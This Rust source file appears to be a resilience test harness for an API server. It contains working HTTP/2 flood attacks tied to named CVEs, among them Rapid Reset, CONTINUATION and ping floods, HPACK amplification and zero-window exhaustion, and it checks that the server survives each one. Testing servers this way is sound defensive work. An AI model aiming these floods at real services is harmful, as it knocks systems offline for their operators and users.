//! Floods over HTTP/2, each from several connections: the frames are valid, there are only too many of them.

use std::time::Duration;

use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::Instant,
};
use tokio_rustls::client::TlsStream;

use super::{
    http2::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, header, request, setting,
    },
    victim::{Connector, Victim, Who},
};
use crate::{control_alone::expect, kit::Result};

const CONNECTIONS: usize = 4;
/// How long one connection floods, if it is let.
const FLOOD: Duration = Duration::from_secs(5);
/// Bytes that one connection sends, if it is let.
const MOST_BYTES: usize = 64 << 20;
const MOST_MIB: u64 = 96;
const MAPS: &str = "/api/v1/namespaces/own/configmaps";

/// A flood: who sends it, how it begins, and turn `n` of what goes on and on.
struct Flood {
    name: &'static str,
    who: Who,
    begin: fn() -> Vec<u8>,
    turn: fn(u32) -> Vec<u8>,
    /// Whether the client takes what the server answers.
    reads: bool,
}

/// The stream of request `turn`.
fn stream(turn: u32) -> u32 {
    turn.saturating_mul(2).saturating_add(1)
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

fn get(turn: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &request("GET", path))
}

const FLOODS: &[Flood] = &[
    Flood {
        // CVE-2023-44487
        name: "requests that are reset at once, by joe",
        who: Who::Joe,
        begin: nothing,
        turn: |turn| [get(turn, MAPS), frame(RST_STREAM, 0, stream(turn), &8_u32.to_be_bytes())].concat(),
        reads: true,
    },
    Flood {
        name: "requests that are reset at once, by a stranger who reads nothing",
        who: Who::Stranger,
        begin: nothing,
        turn: |turn| [get(turn, MAPS), frame(RST_STREAM, 0, stream(turn), &8_u32.to_be_bytes())].concat(),
        reads: false,
    },
    Flood {
        // CVE-2025-8671: the server is made to reset.
        name: "requests that the server has to reset",
        who: Who::Stranger,
        begin: nothing,
        turn: |turn| [get(turn, MAPS), frame(WINDOW_UPDATE, 0, stream(turn), &0_u32.to_be_bytes())].concat(),
        reads: true,
    },
    Flood {
        // CVE-2019-9515
        name: "settings",
        who: Who::Stranger,
        begin: nothing,
        turn: |turn| setting(INITIAL_WINDOW_SIZE, turn),
        reads: false,
    },
    Flood {
        name: "empty settings",
        who: Who::Stranger,
        begin: nothing,
        turn: |_| frame(SETTINGS, 0, 0, &[]),
        reads: true,
    },
    Flood {
        // CVE-2019-9512
        name: "pings",
        who: Who::Stranger,
        begin: nothing,
        turn: |turn| frame(PING, 0, 0, &u64::from(turn).to_be_bytes()),
        reads: false,
    },
    Flood {
        name: "window updates of the connection",
        who: Who::Stranger,
        begin: nothing,
        turn: |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        reads: false,
    },
    Flood {
        // CVE-2024-24549, CVE-2024-27316
        name: "continuations of one head",
        who: Who::Stranger,
        begin: || frame(HEADERS, END_STREAM, 1, &request("GET", "/healthz")),
        turn: |_| frame(CONTINUATION, 0, 1, &header("name", &"x".repeat(100)).repeat(100)),
        reads: true,
    },
    Flood {
        name: "empty continuations",
        who: Who::Stranger,
        begin: || frame(HEADERS, END_STREAM, 1, &request("GET", "/healthz")),
        turn: |_| frame(CONTINUATION, 0, 1, &[]),
        reads: true,
    },
    Flood {
        // CVE-2016-1544: one large header in the table, named again and again.
        name: "a head that grows when it is decoded",
        who: Who::Stranger,
        begin: || setting(HEADER_TABLE_SIZE, 4096),
        turn: |turn| {
            let long = [&[0x40, 1, b'a', 0x7f, 0x81, 0x1e][..], &[b'x'; 4_000]].concat();
            let head = [request("GET", "/healthz"), long, vec![0xbe; 8_000]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &head)
        },
        reads: true,
    },
    Flood {
        // CVE-2019-9518
        name: "empty data of a body",
        who: Who::Joe,
        begin: || frame(HEADERS, END_HEADERS, 1, &request("POST", MAPS)),
        turn: |_| frame(DATA, 0, 1, &[]),
        reads: true,
    },
    Flood {
        name: "padding alone, of a body",
        who: Who::Joe,
        begin: || frame(HEADERS, END_HEADERS, 1, &request("POST", MAPS)),
        // Padded: the length of the padding, and nothing before it.
        turn: |_| frame(DATA, 8, 1, &[vec![200], vec![0; 200]].concat()),
        reads: false,
    },
    Flood {
        name: "frames of an unknown type",
        who: Who::Stranger,
        begin: nothing,
        turn: |_| frame(0xbb, 0, 0, &[0; 1_000]),
        reads: true,
    },
];

/// Each flood from several connections, for a while: the server ends it, or goes on without harm.
pub async fn frames(victim: Victim) -> Result {
    for flood in FLOODS {
        let connector = victim.connector(flood.who, "h2")?;
        let attack = async {
            let mut clients = JoinSet::new();
            for _ in 0..CONNECTIONS {
                clients.spawn(run(connector.clone(), flood));
            }
            while let Some(ended) = clients.join_next().await {
                ended??;
            }
            Ok(())
        };
        victim.endures(flood.name, MOST_MIB, attack).await?;
    }
    Ok(())
}

/// Floods until the server ends the connection, takes no more, or enough was sent.
async fn run(connector: Connector, flood: &'static Flood) -> Result {
    let mut stream = connector.connect().await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &(flood.begin)()].concat()).await?;
    let (mut reading, mut writing) = tokio::io::split(stream);
    let answers = async {
        let mut answer = vec![0; 1 << 16];
        while flood.reads && matches!(reading.read(&mut answer).await, Ok(1..)) {}
        if !flood.reads {
            std::future::pending::<()>().await;
        }
    };
    let sending = async {
        let (mut turn, mut sent) = (0_u32, 0);
        while sent < MOST_BYTES {
            let mut bytes = Vec::new();
            while bytes.len() < 1 << 14 {
                bytes.extend((flood.turn)(turn));
                turn += 1;
            }
            if writing.write_all(&bytes).await.is_err() {
                return;
            }
            sent += bytes.len();
        }
    };
    // Whichever comes first.
    let flooding = async {
        tokio::select! {
            () = answers => {}
            () = sending => {}
        }
    };
    // Not an end in time, but that of the attack.
    drop(tokio::time::timeout(FLOOD, flooding).await);
    Ok(())
}

/// Lists of some megabytes, of which as many are asked for as there may be streams, and none is taken.
pub async fn closed_windows(victim: Victim) -> Result {
    const OBJECTS: usize = 8;
    const STREAMS: u32 = 200;
    for index in 0..OBJECTS {
        let map = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": format!("large-{index}")},
            "data": {"text": "x".repeat(900_000)}});
        expect(&victim.admin, 201, "POST", MAPS, Some(map)).await?;
    }
    let connector = victim.connector(Who::Joe, "h2")?;
    let attack = async {
        let mut held: Vec<TlsStream<TcpStream>> = Vec::new();
        for _ in 0..CONNECTIONS {
            let mut stream = connector.connect().await?;
            stream.write_all(&[PREFACE, &setting(INITIAL_WINDOW_SIZE, 0)[..]].concat()).await?;
            for turn in 0..STREAMS {
                stream.write_all(&get(turn, MAPS)).await?;
            }
            stream.flush().await?;
            held.push(stream);
        }
        // Read on, so that the windows are what is missing; each ends, or the time that is watched does.
        let until = Instant::now() + FLOOD;
        for stream in &mut held {
            let mut answer = vec![0; 1 << 16];
            let taking = async { while matches!(stream.read(&mut answer).await, Ok(1..)) {} };
            drop(tokio::time::timeout_at(until, taking).await);
        }
        Ok(())
    };
    // Answers that are being sent may hold 256 MiB together.
    victim.endures("answers without a window", 400, attack).await
}
